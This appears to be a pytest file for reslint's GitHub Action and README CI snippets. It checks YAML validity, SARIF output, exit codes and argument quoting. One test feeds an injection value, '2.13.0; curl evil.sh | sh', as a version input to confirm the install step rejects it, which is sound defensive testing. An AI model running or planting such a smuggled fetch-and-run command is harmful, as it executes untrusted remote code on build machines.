"""The CI-gate recipes: `action.yml` and the README's workflow and GitLab snippets are valid YAML, and the
commands they contain, run as the CI would run them, gate a repository with a bad model (exit 1, valid
SARIF) and pass a clean one (exit 0)."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import jsonschema
import pytest
from golden import ROOT

yaml = pytest.importorskip("yaml")

ACTION_TEXT = (ROOT / "action.yml").read_text(encoding="utf-8")
ACTION = yaml.safe_load(ACTION_TEXT)
STEPS = ACTION["runs"]["steps"]
README = (ROOT / "README.md").read_text(encoding="utf-8")
SARIF_SCHEMA = json.loads((Path(__file__).parent / "data" / "sarif-schema-2.1.0.json").read_text())
BAD_MODEL = (ROOT / "fixtures" / "placement" / "pre_ln_without_final_norm.py").read_text()
CLEAN_MODEL = (ROOT / "examples" / "pre_ln_gpt.py").read_text()
RL103_ANNOTATION = "::warning file=models/bad_model.py,line=37,col=17,title=RL103::the Pre-LN stack `self.blocks`"
EXPRESSION = re.compile(r"\$\{\{\s*([\w.-]+)\s*\}\}")


def step(step_id: str) -> dict:
    return next(entry for entry in STEPS if entry.get("id") == step_id)


def repository(directory: Path, model: str) -> Path:
    """A git checkout with one model file, as actions/checkout leaves it."""
    (directory / "models").mkdir(parents=True)
    (directory / "models" / "bad_model.py" if model is BAD_MODEL else directory / "models" / "gpt.py").write_text(model)
    subprocess.run(["git", "init", "-q", str(directory)], check=True)
    return directory


def environment(extra: dict[str, str]) -> dict[str, str]:
    # The installed reslint first on PATH, as after the install step.
    path = os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])
    return {**os.environ, "PATH": path, "NO_COLOR": "1", **extra}


def run_action_step(entry: dict, checkout: Path, inputs: dict[str, str], github_output: Path) -> subprocess.CompletedProcess:
    """Run a `run:` step as a composite action does: its `env` with the inputs' values, `bash -eo pipefail`."""
    values = {f"inputs.{name}": spec.get("default", "") for name, spec in ACTION["inputs"].items()}
    values.update({f"inputs.{name}": value for name, value in inputs.items()})
    values["github.action_path"] = str(ROOT)
    values["runner.temp"] = str(github_output.parent)

    def substitute(text: str) -> str:
        return EXPRESSION.sub(lambda match: values[match.group(1)], text)

    env = {name: substitute(str(value)) for name, value in entry.get("env", {}).items()}
    env["GITHUB_OUTPUT"] = str(github_output)
    directory = checkout / substitute(entry.get("working-directory", "."))
    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", entry["run"]], cwd=directory,
                          env=environment(env), capture_output=True, text=True, timeout=120)


# ----- action.yml ----------------------------------------------------------------------------------


def test_action_is_a_composite_action_that_uploads_then_gates():
    assert ACTION["runs"]["using"] == "composite"
    assert {"name", "description", "inputs", "outputs", "runs"} <= set(ACTION)
    uses = [entry.get("uses", "") for entry in STEPS]
    assert uses[0].startswith("actions/setup-python@")
    order = [entry.get("id") or entry.get("uses", "").split("@")[0] for entry in STEPS]
    assert order == ["actions/setup-python", "actions/cache", "install", "actions/cache", "sarif",
                     "github/codeql-action/upload-sarif", "gate"]
    upload = STEPS[order.index("github/codeql-action/upload-sarif")]
    assert upload["with"]["sarif_file"] == "${{ inputs.working-directory }}/${{ inputs.sarif-file }}"
    for entry in STEPS:
        if "run" in entry:
            assert entry["shell"] == "bash"
            assert "${{" not in entry["run"], "inputs reach scripts through env only (no script injection)"
    used = set(re.findall(r"(?<![\w-])inputs\.([A-Za-z][\w-]*)", ACTION_TEXT))  # in ${{ }} and in `if:`
    assert used == set(ACTION["inputs"]), "every input is used and every used input is declared"
    assert ACTION["outputs"]["sarif-file"]["value"] == "${{ steps.sarif.outputs.sarif-file }}"
    assert ACTION["inputs"]["torch-version"]["default"] == "" and ACTION["inputs"]["fail-on"]["default"] == "warning"


def test_action_gates_a_bad_model_with_sarif_and_annotations(tmp_path):
    checkout = repository(tmp_path / "bad", BAD_MODEL)
    output = tmp_path / "github_output"
    sarif = run_action_step(step("sarif"), checkout, {}, output)
    assert sarif.returncode == 0, sarif.stderr
    assert output.read_text() == "sarif-file=reslint.sarif\n"
    document = json.loads((checkout / "reslint.sarif").read_text())
    jsonschema.validate(document, SARIF_SCHEMA)
    [result] = document["runs"][0]["results"]
    location = result["locations"][0]["physicalLocation"]
    assert (result["ruleId"], location["artifactLocation"]["uri"], location["region"]["startLine"]) == (
        "RL103", "models/bad_model.py", 37)

    gate = run_action_step(step("gate"), checkout, {}, output)
    assert gate.returncode == 1, gate.stderr
    assert gate.stdout.startswith(RL103_ANNOTATION) and len(gate.stdout.splitlines()) == 1
    lenient = run_action_step(step("gate"), checkout, {"fail-on": "error", "paths": "models"}, output)
    assert (lenient.returncode, lenient.stdout) == (0, gate.stdout)


def test_action_passes_a_clean_model(tmp_path):
    checkout = repository(tmp_path / "clean", CLEAN_MODEL)
    output = tmp_path / "github_output"
    assert run_action_step(step("sarif"), checkout, {}, output).returncode == 0
    assert json.loads((checkout / "reslint.sarif").read_text())["runs"][0]["results"] == []
    gate = run_action_step(step("gate"), checkout, {"args": "--config pyproject.toml"}, output)
    assert gate.returncode == 2 and gate.stderr == "reslint: error: config file not found: pyproject.toml\n"
    gate = run_action_step(step("gate"), checkout, {}, output)
    assert (gate.returncode, gate.stdout, gate.stderr) == (0, "", "")


def test_action_caches_pip_downloads_and_reslint_results():
    pip_cache, results_cache = (entry for entry in STEPS if entry.get("uses", "").startswith("actions/cache@"))
    assert pip_cache["with"]["path"] == step("install")["env"]["PIP_CACHE_DIR"] == "${{ runner.temp }}/reslint-pip-cache"
    assert "inputs.torch-version" in pip_cache["with"]["key"] and "inputs.requirements" in pip_cache["with"]["key"]
    assert results_cache["with"]["path"] == "${{ inputs.working-directory }}/.reslint_cache"
    assert results_cache["with"]["restore-keys"].startswith("reslint-results-")
    assert pip_cache["if"] == results_cache["if"] == "inputs.cache == 'true'"


# A factory whose EXPR holds a space and a path with a space: `read -ra` split both (exit 2: EXPR
# does not parse, config not found); the words must reach reslint as written.
QUOTED_ARGS = """--model "models/gpt.py:GPT(GPTConfig(n_layer=2, n_head=4))" --config 'ci conf/reslint.toml' --ignore RL101"""


def test_action_passes_quoted_arguments_as_single_words(tmp_path):
    checkout = repository(tmp_path / "clean", CLEAN_MODEL)
    (checkout / "ci conf").mkdir()
    (checkout / "ci conf" / "reslint.toml").write_text("ignore = ['RL201']\n")
    (checkout / "my models").mkdir()
    (checkout / "my models" / "bad.py").write_text(BAD_MODEL)
    output = tmp_path / "github_output"
    inputs = {"args": QUOTED_ARGS, "paths": "models 'my models'"}
    sarif = run_action_step(step("sarif"), checkout, inputs, output)
    assert (sarif.returncode, sarif.stderr) == (0, "")
    results = json.loads((checkout / "reslint.sarif").read_text())["runs"][0]["results"]
    assert [result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for result in results] == [
        "my%20models/bad.py"]
    gate = run_action_step(step("gate"), checkout, inputs, output)
    assert gate.returncode == 1, gate.stderr
    assert gate.stdout.startswith("::warning file=my models/bad.py,line=37,col=17,title=RL103::")
    assert len(gate.stdout.splitlines()) == 1


def test_action_stops_on_unbalanced_quotes(tmp_path):
    checkout = repository(tmp_path / "clean", CLEAN_MODEL)
    result = run_action_step(step("gate"), checkout, {"args": "--ignore 'RL101"}, tmp_path / "out")
    assert result.returncode == 2
    assert result.stderr == "::error title=reslint::RESLINT_ARGS: cannot split \"--ignore 'RL101\": No closing quotation\n"


@pytest.mark.parametrize("version", ["latest", ">=2.1", "2.13.0; curl evil.sh | sh", "2.*"])
def test_install_step_refuses_an_unpinned_torch(tmp_path, version):
    result = run_action_step(step("install"), tmp_path, {"torch-version": version}, tmp_path / "out")
    assert result.returncode == 2
    assert result.stdout == f"::error title=reslint::torch-version must be a pinned version such as 2.13.0, got '{version}'\n"


# ----- the README's snippets -----------------------------------------------------------------------


def readme_yaml_blocks() -> list[dict]:
    section = README[README.index("## CI gate (GitHub Actions, GitLab)"):]
    section = section[:section.index("\n## ", 1)]
    return [yaml.safe_load(block) for block in re.findall(r"```yaml\n(.*?)```", section, re.S)]


def test_readme_workflow_uses_the_action_with_its_inputs():
    workflow, gitlab = readme_yaml_blocks()
    job = workflow["jobs"]["reslint"]
    assert job["permissions"]["security-events"] == "write"
    checkout, action = job["steps"]
    assert checkout["uses"].startswith("actions/checkout@") and action["uses"].startswith("reslint/reslint@v")
    assert set(action["with"]) <= set(ACTION["inputs"])
    assert set(gitlab) == {"reslint"} and gitlab["reslint"]["artifacts"]["paths"] == ["reslint.json"]


@pytest.mark.parametrize(("model", "status"), [(BAD_MODEL, 1), (CLEAN_MODEL, 0)])
def test_readme_gitlab_job_gates(tmp_path, model, status):
    checkout = repository(tmp_path / "repo", model)
    script = readme_yaml_blocks()[1]["reslint"]["script"]
    assert script[0].startswith("pip install reslint==")  # done: this environment has reslint installed
    results = [subprocess.run(["sh", "-c", line], cwd=checkout, env=environment({}), capture_output=True, text=True,
                              timeout=120) for line in script[1:]]
    assert [result.returncode for result in results] == [0, status], [result.stderr for result in results]
    report = json.loads((checkout / "reslint.json").read_text())
    assert [(f["code"], f["path"], f["line"]) for f in report["findings"]] == (
        [("RL103", "models/bad_model.py", 37)] if status else [])


def test_readme_snippets_changelog_and_package_name_one_version():
    import reslint

    version = reslint.__version__
    assert re.findall(r"rev: v([\w.]+)", README) == [version]  # pre-commit
    assert re.findall(r"reslint/reslint@v([\w.]+)", README) == [version]  # the action
    assert re.findall(r"pip install reslint==([\w.]+)", README) == [version]  # GitLab
    changelog = (ROOT / "CHANGELOG.md").read_text(encoding="utf-8")
    assert re.findall(r"^## \[([\w.]+)\]", changelog, re.M)[0] == version
